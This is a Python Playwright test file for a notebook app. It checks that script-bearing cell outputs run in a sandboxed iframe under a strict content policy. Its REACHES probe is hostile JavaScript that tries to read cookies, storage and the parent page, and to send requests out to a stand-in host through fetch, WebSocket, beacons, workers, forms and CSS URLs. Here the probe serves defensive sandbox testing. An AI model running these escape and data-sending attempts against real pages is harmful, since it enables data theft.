"""Outputs with scripts: they run in a frame that reaches nothing, when the person wants them to."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from tests.browser.page_notebook import noting
from tests.browser.test_page_hostile import stranger

if TYPE_CHECKING:
    from collections.abc import Callable
    from contextlib import AbstractContextManager
    from typing import TypeAlias

    from playwright.sync_api import Frame, FrameLocator, Locator

    from tests.browser.page import Site
    from tests.browser.page_notebook import PageNotebook

    Opens: TypeAlias = Callable[..., AbstractContextManager[PageNotebook]]

__all__ = ["stranger"]
pytestmark = pytest.mark.browser

FIGURE = "<div id='figure'></div><script>figure.textContent = 'drawn: ' + 6 * 7</script>"
LIBRARY = "<script>window.draw = (at) => { at.textContent = 'drawn by the library' }</script>"
USE = "<p id='at'></p><script>draw(at)</script>"
HTML = "from IPython.display import HTML, Javascript, display\n"
PLOTLY = {"data": [{"type": "bar", "x": ["Lyon", "Paris"], "y": [2, 3]}], "layout": {}}
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
    "data": {"values": [{"a": "Lyon", "b": 2}, {"a": "Paris", "b": 3}]},
    "mark": "bar",
    "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
}
ALTAIR = f"""<div id="vis"></div><script>
const net = "https://cdn.jsdelivr.net";
const paths = ["/npm/vega@6", "/npm/vega-lite@6.1.0", "/npm/vega-embed@7"];
const load = (path) => new Promise((done, failed) => {{
  const script = document.createElement("script");
  [script.onload, script.onerror] = [done, failed];
  document.head.append(script);
  script.src = `${{net}}${{path}}?noext`;
}});
load(paths[0]).then(() => load(paths[1])).then(() => load(paths[2]))
  .then(() => vegaEmbed("#vis", {json.dumps(VEGA)}));
</script>"""
STYLED = "<style>#t1 td {{ color: rgb(1, 2, 3) }} p {{ display: none }}</style>{more}"
TABLE = "<table id='t1'><tr><td>styled</td></tr></table>"


@pytest.fixture
def opened(site: Site, request: pytest.FixtureRequest) -> Opens:
    """Return what opens a notebook of these cells."""
    return lambda *sources, **more: noting(site, request.node.name, *sources, **more)


def framed(place: Locator) -> FrameLocator:
    return place.frame_locator("iframe.beaker-scripts")


def shown(kind: str, content: Any) -> dict[str, Any]:
    """Return a cell that has put this out in an earlier visit."""
    output = {"output_type": "display_data", "data": {kind: content}, "metadata": {}}
    cell = {"cell_type": "code", "id": "c1", "metadata": {}, "source": "show()"}
    return cell | {"outputs": [output], "execution_count": 1}


def script_frame(notebook: PageNotebook) -> Frame:
    """Return the frame of the first output, once it has run its scripts."""
    framed(notebook.column).locator("[data-done]").first.wait_for(state="attached")
    return next(each for each in notebook.page.frames if "output.html" in each.url)


def test_a_figure_that_is_a_script_is_drawn_when_its_cell_is_run(opened: Opens) -> None:
    with opened(f'{HTML}HTML("""{FIGURE}""")') as notebook:
        notebook.select(1)
        notebook.press("Control+Enter")
        expect(framed(notebook.output(1)).get_by_text("drawn: 42")).to_be_visible()
        frame = notebook.output(1).locator("iframe")
        assert frame.get_attribute("sandbox") == "allow-scripts"
        assert 10 < (frame.bounding_box() or {})["height"] < 60


def test_scripts_of_an_earlier_visit_wait_for_the_persons_word(opened: Opens) -> None:
    with opened(cells=[shown("text/html", FIGURE)]) as notebook:
        output = notebook.output(1)
        expect(output).to_contain_text("This output has scripts. Run the cell to see it")
        assert output.locator("iframe").count() == 0
        output.get_by_role("button", name="show it").click()
        expect(framed(output).get_by_text("drawn: 42")).to_be_visible()
        expect(output).not_to_contain_text("has scripts")


def test_a_library_of_one_cell_draws_in_another_and_a_script_in_the_place_before_it(
    opened: Opens,
) -> None:
    use = "display(HTML('<p id=here></p>'), Javascript('draw(here); element.title = \"a title\"'))"
    with opened(f'{HTML}HTML("""{LIBRARY}""")', f'HTML("""{USE}""")', use) as notebook:
        notebook.tool("run all")
        for number in (2, 3):
            place = framed(notebook.output(number))
            expect(place.get_by_text("drawn by the library")).to_be_visible()
        expect(framed(notebook.output(3)).get_by_title("a title")).to_be_visible()


def test_what_a_script_did_not_get_from_the_net_is_named(site: Site, opened: Opens) -> None:
    script = f"<script>fetch(`{site.address}`).catch(() => 0)</script>"
    with opened(f'{HTML}HTML("{script}")') as it:
        it.select(1)
        it.press("Control+Enter")
        expect(framed(it.output(1)).get_by_text("Not fetched: 127.0.0.1")).to_be_visible()


@pytest.mark.parametrize(
    ("kind", "figure"),
    [("application/vnd.plotly.v1+json", PLOTLY), ("application/vnd.vegalite.v6+json", VEGA)],
    ids=["plotly", "vega-lite"],
)
def test_figures_of_plotly_and_altair_are_drawn_whoever_made_them(
    opened: Opens, kind: str, figure: dict[str, Any]
) -> None:
    with opened(cells=[shown(kind, figure)]) as notebook:
        expect(framed(notebook.output(1)).get_by_text("Lyon").first).to_be_visible()


def test_what_the_page_has_stands_in_for_what_altair_would_fetch(opened: Opens) -> None:
    with opened(cells=[shown("text/html", ALTAIR)]) as notebook:
        notebook.output(1).get_by_role("button", name="show it").click()
        expect(framed(notebook.output(1)).locator("canvas, svg").first).to_be_visible()


def test_styles_of_an_output_reach_no_further(opened: Opens) -> None:
    html = STYLED.format(more=TABLE + "<script>window.ran = 1</script>")
    with opened(cells=[shown("text/html", html)]) as notebook:
        cell = framed(notebook.output(1)).get_by_text("styled")
        expect(cell).to_have_css("color", "rgb(1, 2, 3)")
        expect(notebook.output(1).get_by_text("This output has scripts")).to_be_visible()
        assert [each.evaluate("window.ran") for each in notebook.page.frames] == [None, None]


def test_a_frame_that_is_moved_with_its_cell_is_drawn_again(opened: Opens) -> None:
    with opened(f'{HTML}HTML("""{FIGURE}""")', "") as notebook:
        notebook.select(1)
        notebook.press("Control+Enter")
        drawn = framed(notebook.output(1)).get_by_text("drawn: 42")
        expect(drawn).to_be_visible()
        notebook.press("Control+Shift+ArrowDown")
        expect(framed(notebook.output(2)).get_by_text("drawn: 42")).to_be_visible()


REACHES = """
const tried = {};
const attempt = (name, act) => {
  try { tried[name] = String(act() ?? "done"); } catch (error) { tried[name] = error.name; }
};
const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
const worker = (text) => new Worker(URL.createObjectURL(new Blob([text])));
attempt("top", () => { top.location = "NET/top"; });
attempt("parent", () => parent.document.title);
attempt("storage", () => localStorage.length + sessionStorage.length);
attempt("cookie", () => document.cookie);
attempt("database", () => indexedDB.open("x"));
attempt("open", () => open("NET/open"));
attempt("socket", () => new WebSocket("NET/socket".replace("http", "ws")));
attempt("events", () => new EventSource("NET/events"));
attempt("peers", () => new RTCPeerConnection());
attempt("beacon", () => navigator.sendBeacon("NET/beacon", "x"));
attempt("worker", () => worker("try { importScripts('NET/worker') } catch {}"));
attempt("fetching", () => worker("fetch('NET/worker-fetch').catch(() => 0)"));
for (const how of ["NET/fetch", location.origin + "/api/status", "/api/contents"])
  fetch(how).catch(() => {});
import("NET/module.js").catch(() => {});
new Image().src = "NET/image";
for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "prerender", "modulepreload"])
  add(`<link rel=${rel} as=script href="NET/${rel}">`);
add(`<iframe src="NET/frame"></iframe><object data="NET/object"></object>`);
const inner = "<script>fetch('NET/srcdoc').catch(() => 0)<\\/script><img src='NET/inner'>";
add(`<iframe srcdoc="${inner}"></iframe>`);
add(`<form id=form action="NET/form"><input name=x></form><a id=away ping="NET/ping">x</a>`);
add(`<video src="NET/video"></video><svg><image href="NET/svg"/></svg>`);
add(`<style>@import 'NET/import'; @font-face { font-family: f; src: url(NET/font) }
  p { font-family: f; background: url(NET/style) }</style><p>x</p>`);
attempt("form", () => form.submit());
away.target = "_top"; away.href = "NET/link"; away.click();
parent.postMessage({ height: 1e9 }, "*");
parent.postMessage({ height: "<img src=x>", ready: {} }, "*");
parent.postMessage(null, "*");
window.tried = tried;
document.body.dataset.done = "";
"""
BARRED = {
    "top": "SecurityError",
    "parent": "SecurityError",
    "storage": "SecurityError",
    "cookie": "SecurityError",
    "database": "SecurityError",
    "peers": "ReferenceError",
}


def test_a_hostile_script_reaches_neither_the_page_nor_the_net(
    opened: Opens, stranger: tuple[str, list[str]]
) -> None:
    net, heard = stranger
    script = REACHES.replace("NET", net)
    code = f"display(HTML({f'<script>{script}</script>'!r}))\nprint('the end')"
    with opened(HTML + code) as notebook:
        page = notebook.page
        address = page.url
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        notebook.select(1)
        notebook.press("Control+Enter")
        frame = script_frame(notebook)
        tried = frame.evaluate("window.tried")
        assert {name: tried[name] for name in BARRED} == BARRED
        # A frame that tries to go elsewhere itself leaves nothing of it.
        frame.evaluate("to => { setTimeout(() => { location = to }) }", f"{net}/location?x")
        expect(framed(notebook.column).locator("[data-done]")).to_have_count(0)
        expect(notebook.output(1)).to_contain_text("the end")
        height = notebook.output(1).locator("iframe").bounding_box() or {}
        assert height["height"] <= 2_000
        assert page.url == address
        assert len(page.context.pages) == 1
        assert heard == []
        assert [url for url in asked if "/api/" in url and "status" in url] == []


def test_the_frame_is_nobodys_page_by_itself(site: Site) -> None:
    reply = site.server.ask("GET", "/beaker/ui/output.html", token=None)
    policy = reply.headers["Content-Security-Policy"]
    assert "sandbox allow-scripts; default-src 'none'" in policy
    assert "connect-src" not in policy
    assert "frame-ancestors 'self'" in policy
    said = reply.body.decode().split('content="')[1].split('"')[0]
    assert set(said.split("; ")) <= set(policy.split("; "))
